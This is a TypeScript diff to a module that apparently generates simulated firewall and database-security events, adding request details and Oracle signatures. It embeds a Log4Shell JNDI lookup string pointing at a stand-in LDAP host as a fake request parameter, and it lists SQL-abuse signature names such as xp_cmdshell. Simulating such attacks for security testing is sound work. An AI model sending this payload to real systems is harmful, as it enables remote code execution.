@@ -1,4 +1,4 @@
-import type { ProfileData } from '../profile-data.js';
+import type { ProfileData, Row } from '../profile-data.js';
 
 export const maps: NonNullable<ProfileData['maps']> = {
   /** What its firewall cannot follow, by what came: there is TLS in https only. */
@@ -39,28 +39,85 @@ export const maps: NonNullable<ProfileData['maps']> = {
   },
   /** A text that looks like a template's place, which a template cannot hold. */
   unfilled: { '*': '${Alert.username}' },
+  /** Such a text as well: what Log4j looks up. */
+  lookup: { '*': '${jndi:ldap://203.0.113.90:1389/a}' },
+};
+
+/** What a request carries: a form or a file with POST, nothing with GET. */
+const FORM = { method: 'POST', media: 'application/x-www-form-urlencoded', size: '${between:20,400}' };
+const UPLOAD = { method: 'POST', media: 'multipart/form-data', size: '${between:900,90000}' };
+const NOTHING = { method: 'GET', media: '', size: '' };
+const OLD_BROWSER =
+  'Mozilla/${choice:5.0 (compatible; MSIE 10.0; Windows NT 6.2),4.0 (compatible; MSIE 8.0; Windows NT 6.1)}';
+
+/** A request that a policy of the site names. */
+const asked = (
+  weight: number,
+  policy: string,
+  path: string,
+  parameter: string,
+  value: string,
+  body = NOTHING,
+): Row => ({
+  ...{ weight, policy, path, parameter, value },
+  ...body,
+  agent: '${host.userAgent}',
+});
+
+type Maker = 'mssql' | 'oracle';
+
+/** Database servers, and what is listened to on them. */
+const databases = [
+  ...[1, 2, 3, 4, 5, 6].map((n) => ({
+    ...{ address: `10.10.4.${19 + n}`, group: `sql-0${n}`, port: '1433' },
+    ...({ maker: 'mssql', application: 'Default MsSql Application' } as const),
+  })),
+  ...[1, 2].map((n) => ({
+    ...{ address: `10.10.4.${100 + n}`, group: `ora-0${n}`, port: '1521' },
+    ...({ maker: 'oracle', application: 'Default Oracle Application' } as const),
+  })),
+];
+
+/** Of statements, by whose database has them. */
+const signatures: Readonly<Record<Maker, readonly (readonly [weight: number, text: string])[]>> = {
+  mssql: [
+    [5, 'Multiple xp_cmdshell execution attempt'],
+    [4, 'SQL Server registry access procedure'],
+    [3, 'OPENROWSET use in ad hoc query'],
+    [2, 'Stored procedure with elevated rights'],
+  ],
+  oracle: [
+    [18, 'Multiple EXECUTE IMMEDIATE attempt(+)'],
+    [12, 'Multiple UTL_HTTP package access'],
+    [9, 'Multiple DBMS_ASSERT bypass attempt'],
+  ],
 };
 
 export const tables: NonNullable<ProfileData['tables']> = {
   custom: [
-    {
-      weight: 8,
-      policy: 'Suspicious File Access Attempt - ${between:1,4}',
-      path: '/uploads/dede/sys_verifies.php',
-      query: 'action=down',
-    },
-    { weight: 6, policy: 'Malicious File Upload', path: '/upload/image.php.jpg', query: 'type=avatar' },
-    { weight: 6, policy: 'Admin Page from Internet', path: '/manager/html', query: 'view=1' },
-    { weight: 5, policy: 'Login Page Rate Limit - Source IP', path: '/account/login', query: 'next=home' },
-    { weight: 5, policy: 'Blocked Countries', path: '/', query: 'lang=en' },
-    { weight: 4, policy: 'Anonymous Proxies', path: '/search', query: 'q=${choice:lamp,desk,chair}' },
-    { weight: 4, policy: 'WordPress Brute Force', path: '/wp-login.php', query: 'reauth=1' },
-    { weight: 4, policy: 'Log4j Exploit Attempt', path: '/api/v1/session', query: 'x=1' },
-    { weight: 3, policy: 'Old Browser Versions', path: '/index.php', query: 'id=${between:1,900}' },
-    { weight: 3, policy: 'TOR IPs', path: '/cart/view', query: 'debug=0' },
-    { weight: 2, policy: 'Comment Spam IPs', path: '/blog/comment', query: 'post=${between:1,400}' },
+    asked(
+      8,
+      'Suspicious File Access Attempt - ${between:1,4}',
+      '/uploads/dede/sys_verifies.php',
+      'action',
+      'down',
+      FORM,
+    ),
+    asked(6, 'Malicious File Upload', '/upload/image.php.jpg', 'type', 'avatar', UPLOAD),
+    asked(6, 'Admin Page from Internet', '/manager/html', 'view', '1'),
+    asked(5, 'Login Page Rate Limit - Source IP', '/account/login', 'next', 'home', FORM),
+    asked(5, 'Blocked Countries', '/', 'lang', 'en'),
+    asked(4, 'Anonymous Proxies', '/search', 'q', '${choice:lamp,desk,chair}'),
+    asked(4, 'WordPress Brute Force', '/wp-login.php', 'reauth', '1', FORM),
+    asked(4, 'Log4j Exploit Attempt', '/api/v1/session', 'x', '${app.name|lookup}'),
+    { ...asked(3, 'Old Browser Versions', '/index.php', 'id', '${between:1,900}'), agent: OLD_BROWSER },
+    asked(3, 'TOR IPs', '/cart/view', 'debug', '0'),
+    asked(2, 'Comment Spam IPs', '/blog/comment', 'post', '${between:1,400}', FORM),
   ],
-  databases: [1, 2, 3, 4, 5, 6].map((n) => ({ address: `10.10.4.${19 + n}`, group: `sql-0${n}` })),
+  databases,
+  sqlSignatures: databases.flatMap((database) =>
+    signatures[database.maker].map(([weight, text]) => ({ ...database, weight, text })),
+  ),
   protocol: [
     { weight: 8, name: 'Extremely Long SQL Request', severity: 'High' },
     { weight: 6, name: 'SQL Logging Errors', severity: 'Medium' },
@@ -69,15 +126,6 @@ export const tables: NonNullable<ProfileData['tables']> = {
     { weight: 3, name: 'Unknown Sql Operation', severity: 'Low' },
     { weight: 3, name: 'Sql Parsing Error', severity: 'Low' },
     { weight: 2, name: 'Null Character in SQL Request', severity: 'Medium' },
-  ],
-  sqlSignatures: [
-    { weight: 6, text: 'Multiple EXECUTE IMMEDIATE attempt(+)' },
-    { weight: 5, text: 'Multiple xp_cmdshell execution attempt' },
-    { weight: 4, text: 'SQL Server registry access procedure' },
-    { weight: 4, text: 'Multiple UTL_HTTP package access' },
-    { weight: 3, text: 'OPENROWSET use in ad hoc query' },
-    { weight: 3, text: 'Multiple DBMS_ASSERT bypass attempt' },
-    { weight: 2, text: 'Stored procedure with elevated rights' },
   ],
   /** Of the policy for the protocol of web sites. */
   webProtocol: [
